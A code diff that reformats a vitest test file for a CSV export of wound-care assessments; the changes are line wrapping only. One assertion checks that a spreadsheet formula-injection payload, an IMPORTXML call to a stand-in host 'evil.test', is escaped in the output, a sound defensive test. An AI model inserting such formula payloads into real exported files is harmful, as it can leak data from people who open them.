@@ -1,7 +1,12 @@
 import { describe, expect, it } from 'vitest'
 import { csvOf } from '../../../src/shared/csv'
 import { parseAssessment } from '../../../src/api/schemas/assessment'
-import { ASSESSMENT_CSV_HEADERS, assessmentCsvRows, ASSESSMENTS_CSV, infectionCells } from '../../../src/features/assessments/assessment-csv'
+import {
+  ASSESSMENT_CSV_HEADERS,
+  assessmentCsvRows,
+  ASSESSMENTS_CSV,
+  infectionCells,
+} from '../../../src/features/assessments/assessment-csv'
 import { assessment, asJson } from '../api/fixtures'
 
 /** The fixture's values with some replaced. */
@@ -72,7 +77,10 @@ describe('assessmentCsvRows', () => {
       infection_wound_swab_date: undefined,
       infection_other: '{"swab_result":{"organism":"MRSA"}}',
     })
-    expect(infectionCells({ infected: true, wound_swab_date: null })).toMatchObject({ infection_infected: true, infection_wound_swab_date: undefined })
+    expect(infectionCells({ infected: true, wound_swab_date: null })).toMatchObject({
+      infection_infected: true,
+      infection_wound_swab_date: undefined,
+    })
     expect(infectionCells('YES')).toMatchObject({ infection_infected: undefined, infection_other: '"YES"' })
     expect(infectionCells(['YES'])).toMatchObject({ infection_other: '["YES"]' })
     expect(infectionCells(undefined)).toEqual(infectionCells(null))
@@ -91,7 +99,14 @@ describe('assessmentCsvRows', () => {
     delete values.tunneling
     values.odor = 'SWEET'
     const partialRow = rowOf(partial)
-    expect(partialRow).toMatchObject({ pain_at_rest: undefined, pain_at_night: undefined, tunneling_length: undefined, tunneling_directions: undefined, odor: 'SWEET', undermining_directions: '6' })
+    expect(partialRow).toMatchObject({
+      pain_at_rest: undefined,
+      pain_at_night: undefined,
+      tunneling_length: undefined,
+      tunneling_directions: undefined,
+      odor: 'SWEET',
+      undermining_directions: '6',
+    })
     expect(partialRow.spec_issues).toMatch(/^values\.pain: missing.*; values\.odor: unexpected value "SWEET"/)
   })
 
@@ -109,6 +124,8 @@ describe('ASSESSMENTS_CSV', () => {
     expect(header).toBe(ASSESSMENT_CSV_HEADERS.join(','))
     expect(rest).toHaveLength(2)
     expect(rest[0]).toContain(',"\'=IMPORTXML(""http://evil.test"")\nsecond line",2026-03-01 10:00:00,')
-    expect(rest[0]?.startsWith('8,2026-03-01,"ATTACHED; ROLLED","DRY; ERYTHEMA",0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,')).toBe(true)
+    expect(
+      rest[0]?.startsWith('8,2026-03-01,"ATTACHED; ROLLED","DRY; ERYTHEMA",0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,'),
+    ).toBe(true)
   })
 })
